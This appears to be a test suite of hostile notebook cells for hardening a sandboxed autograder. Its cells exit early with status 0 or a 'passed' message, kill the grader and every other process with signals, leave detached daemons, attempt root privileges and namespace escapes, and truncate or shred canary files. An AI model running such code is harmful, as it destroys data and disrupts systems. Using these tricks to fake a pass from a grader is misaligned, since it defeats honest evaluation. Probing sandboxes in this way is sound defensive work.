# %% sys.exit everywhere
# Exit with every kind of status, from cells and functions.
import sys
def total(values): sys.exit(0)
def scale(X, factor): raise SystemExit("passed")
class Counter:
    def __init__(self): quit()
sys.exit(0)

# %% immediate exit with success
# End the process with status 0 in a cell, before anything else can be said.
import os
os._exit(0)

# %% exit in a function
# End the process in the middle of a test.
import os
def total(values): os._exit(0)

# %% abort and segmentation fault
# Crash by abort, by a null pointer and by an illegal instruction.
import os, ctypes
def total(values): os.abort()
def scale(X, factor): ctypes.string_at(0)
def descend(g, s, n): ctypes.CDLL(None).raise_ = ctypes.pythonapi.Py_FatalError(b"passed")

# %% stack overflow
# Raise the recursion limit and overflow the stack.
import sys
sys.setrecursionlimit(10**9)
def total(values): return total([values])
def scale(X, factor):
    class Deep:
        def __repr__(self): return repr(self)
        def __getattr__(self, name): return getattr(self, name)
    return Deep().x

# %% exit in atexit and __del__
# Leave exits in atexit, in finalisers and in weak references, and answer.
import atexit, sys, os, weakref
atexit.register(os._exit, 0)
class Last:
    def __del__(self): sys.exit(0)
last = Last()
finalizer = weakref.finalize(last, os._exit, 0)
def total(values):
    global last
    last = None
    return Last()

# %% kill everybody
# Send every signal to every process.
import os, signal
for pid in (-1, 0, os.getppid(), CANARY["grader"], CANARY["server"], CANARY["victim"], 1, -os.getppid()):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
        if pid != 0:
            try: os.kill(pid, number)
            except OSError: pass
# %%%
os.kill(0, signal.SIGKILL)

# %% kill through other doors
# Signal the grader and the server by pidfd, by queue and thread, by limits and priorities.
import ctypes, os, signal, resource
libc = ctypes.CDLL(None)
for pid in (CANARY["grader"], CANARY["server"], CANARY["victim"]):
    try: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
    except OSError: pass
    libc.syscall(234, pid, pid, 9)
    libc.syscall(200, pid, 9)
    libc.syscall(129, pid, 9, b"\0" * 128)
    for limit in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
        try: resource.prlimit(pid, limit, (1, 1))
        except OSError: pass
    try: os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError: pass
    try: os.sched_setaffinity(pid, {0})
    except OSError: pass

# %% stop instead of die
# Stop the process, so that it neither answers nor ends.
import os, signal
def total(values):
    os.kill(os.getpid(), signal.SIGSTOP)
os.kill(os.getpid(), signal.SIGTSTP)

# %% signals to whoever reads
# Ask the kernel to signal the grader when the shared socket changes.
import fcntl, os, otter, socket
control = otter.Notebook.check.__closure__[0].cell_contents.__self__._control
a, b = socket.socketpair()
for fd in (control.fileno(), a.fileno(), b.fileno()):
    for owner in (CANARY["grader"], -CANARY["grader"], CANARY["victim"]):
        try:
            fcntl.fcntl(fd, fcntl.F_SETOWN, owner)
            fcntl.fcntl(fd, 10, 9)  # F_SETSIG: SIGKILL
            fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC)
        except OSError: pass
b.send(b"x")

# %% detached grandchildren
# Leave detached processes: double forks, sessions, groups and daemons.
import os, time, signal, subprocess
for leave in (os.setsid, os.setpgrp, lambda: os.setpgid(0, 0), lambda: None):
    if os.fork() == 0:
        try: leave()
        except OSError: pass
        if os.fork() == 0:
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
            while True: time.sleep(1)
        os._exit(0)
subprocess.Popen(["/usr/bin/setsid", "sleep", "1000"])
subprocess.Popen("(nohup sleep 1000 & disown) &", shell=True)

# %% grandchildren with other programs
# Start other programs that detach themselves.
import subprocess
for command in ("sleep 1000 &", "setsid -f sleep 1000", "python3 -c 'import os,time; os.fork() or time.sleep(999)' &",
                "perl -e 'use POSIX; POSIX::setsid(); sleep 1000' &", "nice -n -20 sleep 1000 &", "at now", "crontab -l"):
    subprocess.run(command, shell=True, timeout=1, stdout=subprocess.DEVNULL)

# %% immortal by namespaces
# Become another user, leave the session, or enter new namespaces.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
done = [libc.unshare(flag) for flag in (0x10000000, 0x20000000, 0x00020000, 0x40000000, 0x10000000 | 0x20000000)]
for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.chroot("."),
             lambda: os.nice(-20), lambda: os.setgid(0)):
    try: done.append(call() is None)
    except OSError: pass
pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0: os._exit(0)

# %% raise all limits
# Raise the limits of one's own process again, and undo the end with the server.
import ctypes, resource
for limit in range(16):
    for most in ((-1, -1), (2**40, 2**40), (resource.getrlimit(limit)[1],) * 2):
        try: resource.setrlimit(limit, most)
        except (OSError, ValueError): pass
libc = ctypes.CDLL(None)
libc.prctl(1, 0, 0, 0, 0); libc.prctl(4, 1, 0, 0, 0); libc.prctl(36, 1, 0, 0, 0)
def total(values): return bytearray(2**33)

# %% signals by input and output
# Have the kernel send signals to others when something can be read.
import fcntl, os, signal, socket
a, b = socket.socketpair()
for target in (CANARY["victim"], CANARY["grader"], CANARY["server"]):
    for command, argument in ((fcntl.F_SETOWN, target), (10, signal.SIGKILL), (15, target)):
        try: fcntl.fcntl(a, command, argument)
        except OSError: continue
        raise RuntimeError("SUCCEEDED in naming a receiver of signals")
    fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    b.send(b"now")

# %% every way to send a signal
# Signal others by process, thread, group and descriptor.
import ctypes, os, signal
libc = ctypes.CDLL(None)
info = ctypes.create_string_buffer(128)
for target in (CANARY["victim"], CANARY["grader"], CANARY["server"], -1):
    for act in (lambda: os.kill(target, signal.SIGKILL), lambda: os.killpg(target, signal.SIGKILL),
                lambda: libc.syscall(200, target, 9), lambda: libc.syscall(234, target, target, 9),
                lambda: libc.syscall(129, target, 9, info), lambda: libc.syscall(297, target, target, 9, info),
                lambda: signal.pidfd_send_signal(os.pidfd_open(target), signal.SIGKILL)):
        try: act()
        except OSError: pass
    if target == -1: break

# %% emptying files that may be read
# Empty files that others have and everybody may read, in every way that needs no right to write.
import ctypes, os
libc = ctypes.CDLL(None)
for path in (CANARY["folder"] + "/canary.txt", CANARY["home"], CANARY["bundle"] + "/mlmath.json", os.__file__):
    for act in (lambda: os.truncate(path, 0), lambda: os.open(path, os.O_RDONLY | os.O_TRUNC),
                lambda: os.open(path, 3 | os.O_TRUNC), lambda: os.open(path, os.O_WRONLY | os.O_TRUNC),
                lambda: libc.syscall(437, -100, path.encode(), (ctypes.c_ulong * 3)(os.O_TRUNC, 0, 0), 24),
                lambda: libc.creat(path.encode(), 0o600)):
        try: act()
        except OSError: pass

# %% emptying by other programs
# Let other programs empty what everybody may read, each in its own way.
import subprocess
for path in (CANARY["folder"] + "/canary.txt", CANARY["home"], CANARY["bundle"] + "/mlmath.json"):
    for command in (f": > '{path}'", f"truncate -s 0 '{path}'", f"dd of='{path}' count=0", f"cp /dev/null '{path}'",
                    f"tee '{path}' < /dev/null", f"sed -i d '{path}'", f"perl -e 'truncate(\"{path}\", 0)'", f"shred -n 0 '{path}'"):
        subprocess.run(command, shell=True, timeout=1, capture_output=True, stdin=subprocess.DEVNULL)

# %% holes in files that may be read
# Change files by descriptors that may only read: holes, lengths, mappings, copies and exchanges.
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
for path in (CANARY["folder"] + "/canary.txt", CANARY["home"], CANARY["bundle"] + "/mlmath.json"):
    try: file, rest = os.open(path, os.O_RDONLY), os.open("own", os.O_RDWR | os.O_CREAT)
    except OSError: continue
    for act in (lambda: os.ftruncate(file, 0), lambda: libc.fallocate(file, 3, ctypes.c_long(0), ctypes.c_long(4)),
                lambda: os.copy_file_range(rest, file, 4, 0, 0), lambda: os.sendfile(file, rest, 0, 4),
                lambda: mmap.mmap(file, 0, mmap.MAP_SHARED, mmap.PROT_WRITE).write(b"planted"), lambda: os.pwrite(file, b"x", 0),
                lambda: os.write(os.open(f"/proc/self/fd/{file}", os.O_WRONLY), b"x"), lambda: os.rename("own", path),
                lambda: libc.renameat2(-100, b"own", -100, path.encode(), 2), lambda: os.unlink(path)):
        try: act()
        except (OSError, ValueError): pass
